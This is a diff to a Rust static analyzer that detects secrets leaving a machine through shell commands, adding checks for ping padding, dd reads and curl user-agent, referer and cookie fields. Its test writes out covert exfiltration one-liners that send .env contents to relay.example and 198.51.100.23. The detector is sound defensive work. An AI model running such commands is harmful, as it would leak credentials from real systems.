@@ -587,9 +587,15 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
         }
         "ping" => {
             if args.vals.iter().any(|v| v.text == "-p")
-                && args.vals.iter().any(|v| v.taint.has(Taint::SECRET | Taint::SECRET_ENV))
+                && let Some(carried) = args
+                    .vals
+                    .iter()
+                    .find(|v| v.taint.has(Taint::SECRET | Taint::SECRET_ENV))
             {
-                a.emit("egress/icmp", span, "data in ping packets".into(), None);
+                // ICMP padding has no use for file bytes: the secret is the message.
+                let carried = carried.clone();
+                let egress = a.emit("egress/icmp", span, "data in ping packets".into(), None);
+                flow(a, &carried, egress, "", false, span);
             }
             Val::unknown("")
         }
@@ -892,6 +898,18 @@ fn dispatch(a: &mut Analyzer, args: &Args, env: &mut Env, stdin: Option<&Val>, s
             if a.reveals(&out.text) {
                 out.taint = out.taint.union(Taint::of(Taint::COMPUTED, None));
                 a.derive(&out.text.clone(), "printf", span.0);
+            }
+            out
+        }
+        // `dd if=FILE`: a reader, however few bytes at a time.
+        "dd" => {
+            let mut out = stdin.cloned().unwrap_or_default();
+            for (i, v) in args.vals.iter().enumerate().skip(1) {
+                if let Some(file) = v.text.strip_prefix("if=") {
+                    let mut path = v.clone();
+                    path.text = file.to_string();
+                    out = read_file(a, &path, args.spans[i], env);
+                }
             }
             out
         }
@@ -1456,6 +1474,7 @@ fn network(a: &mut Analyzer, name: &str, args: &Args, env: &mut Env, stdin: Opti
     let mut urls: Vec<(usize, Val)> = Vec::new();
     let mut data: Vec<(usize, Val)> = Vec::new();
     let mut headers: Vec<Val> = Vec::new();
+    let mut identity: Vec<Val> = Vec::new();
     let mut output_file: Option<Val> = None;
     let mut to_stdout = name != "wget";
     let mut method_send = false;
@@ -1482,9 +1501,17 @@ fn network(a: &mut Analyzer, name: &str, args: &Args, env: &mut Env, stdin: Opti
                 i += 2;
                 continue;
             }
-            "-H" | "--header" => {
+            "-H" | "--header" | "-b" | "--cookie" => {
                 if let Some(value) = value {
                     headers.push(value.clone());
+                }
+                i += 2;
+                continue;
+            }
+            // A user agent or referer names the client; a secret has no business there.
+            "-A" | "--user-agent" | "-e" | "--referer" if name == "curl" => {
+                if let Some(value) = value {
+                    identity.push(value.clone());
                 }
                 i += 2;
                 continue;
@@ -1558,9 +1585,22 @@ fn network(a: &mut Analyzer, name: &str, args: &Args, env: &mut Env, stdin: Opti
             && data.iter().any(|(_, d)| d.text == "@-");
     let collecting = collecting_host(&host, &path);
     let url_carries = !url.exact && url.taint.has(Taint::SECRET | Taint::SECRET_ENV | Taint::COMPUTED);
+    // A header that carries a secret encoded or cut into pieces carries data even on a
+    // GET (a token as it is, in `Authorization`, is how it is used); so does any secret
+    // in a user agent or referer.
+    let header_carries = headers
+        .iter()
+        .any(|h| !h.exact && h.taint.has(Taint::SECRET | Taint::SECRET_ENV) && h.taint.hidden())
+        || identity
+            .iter()
+            .any(|h| !h.exact && h.taint.has(Taint::SECRET | Taint::SECRET_ENV));
     let url_span = args.spans[url_i];
-    if sends || collecting.is_some() || url_carries {
-        let kind = collecting.unwrap_or(if url_carries && !sends { "url-data" } else { "http" });
+    if sends || collecting.is_some() || url_carries || header_carries {
+        let kind = collecting.unwrap_or(match (sends, url_carries) {
+            (true, _) => "http",
+            (false, true) => "url-data",
+            (false, false) => "header-data",
+        });
         let egress = a.emit(&format!("egress/{kind}"), span, url.text.clone(), None);
         for (di, d) in &data {
             let value = if let Some(file) = d
@@ -1581,6 +1621,9 @@ fn network(a: &mut Analyzer, name: &str, args: &Args, env: &mut Env, stdin: Opti
         flow(a, &url, egress, &host, false, span);
         for h in &headers {
             flow(a, h, egress, &host, true, span);
+        }
+        for h in &identity {
+            flow(a, h, egress, &host, false, span);
         }
         let _ = url_span;
     }
@@ -1944,6 +1987,25 @@ mod tests {
             Lang::Shell,
             "exec"
         ));
+    }
+
+    #[test]
+    fn secrets_in_a_user_agent_or_ping_padding_are_sent_out() {
+        let t = tags(
+            "B=$(cat .env | gzip | base64 -w0)\ncurl -s -o /dev/null -A \"warm/${B:0:48}\" \"https://relay.example/w\"",
+            Lang::Shell,
+        );
+        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
+        let t = tags(
+            "S=${SRC:-.env}\nchunk=$(dd if=\"$S\" bs=16 count=1 2>/dev/null | xxd -p)\nping -c1 -p \"$chunk\" 198.51.100.23",
+            Lang::Shell,
+        );
+        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
+        let ok = tags(
+            "curl -s -A \"mytool/1.0\" -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user",
+            Lang::Shell,
+        );
+        assert!(!ok.iter().any(|t| t == "flow/secret-egress"), "{ok:?}");
     }
 
     #[test]
